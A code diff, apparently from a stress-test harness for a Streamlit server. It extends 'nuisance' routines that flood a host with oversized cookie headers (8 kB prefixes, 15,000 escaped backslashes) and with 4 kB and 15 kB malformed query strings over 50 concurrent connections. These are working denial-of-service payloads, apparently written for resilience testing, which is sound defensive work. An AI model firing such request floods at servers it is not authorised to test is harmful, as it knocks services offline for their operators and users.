@@ -573,14 +573,30 @@ async def left(url: str) -> None:
 
 
 async def cookies(url: str) -> None:
-    """Fifty handshakes a second, each with 8 kB of what the name of a cookie may begin with."""
+    """Fifty requests a second with 8 kB of what a name may begin with, or 15 kB in quotes."""
     cookie = b"Cookie: " + b"_streamlit_" * 730 + b"\r\nUpgrade: websocket"
-    while True:
+    handshaking = handshake(url).replace(b"Upgrade: websocket", cookie)
+    asking = b'GET / HTTP/1.1\r\nHost: a\r\nCookie: learner="' + b"\\" * 15_000 + b'"\r\n\r\n'
+    for request in itertools.cycle((handshaking, asking)):
         with contextlib.suppress(OSError):
             _, writer = await asyncio.open_connection(*url.split("/")[2].split(":"))
-            writer.write(handshake(url).replace(b"Upgrade: websocket", cookie))
+            writer.write(request)
             await asyncio.sleep(0.02)
             writer.close()
+
+
+async def addresses(url: str) -> None:
+    """50 connections that ask for the page under addresses of 4 and of 15 kB, without pause."""
+    head = b" HTTP/1.1\r\nHost: a\r\nAccept: text/html\r\nConnection: close\r\n\r\n"
+
+    async def one() -> None:
+        for letters in (3_990, 15_000):
+            reader, writer = await asyncio.open_connection(*url.split("/")[2].split(":"))
+            writer.write(b"GET /?" + (b"%zz&" * letters)[:letters] + head)
+            await reader.read()
+            writer.close()
+
+    await again_and_again(one, 50)
 
 
 async def noise(url: str) -> None:
@@ -657,6 +673,7 @@ NUISANCES: dict[str, Nuisance] = {
         robbed,
         left,
         cookies,
+        addresses,
         noise,
     )
 }
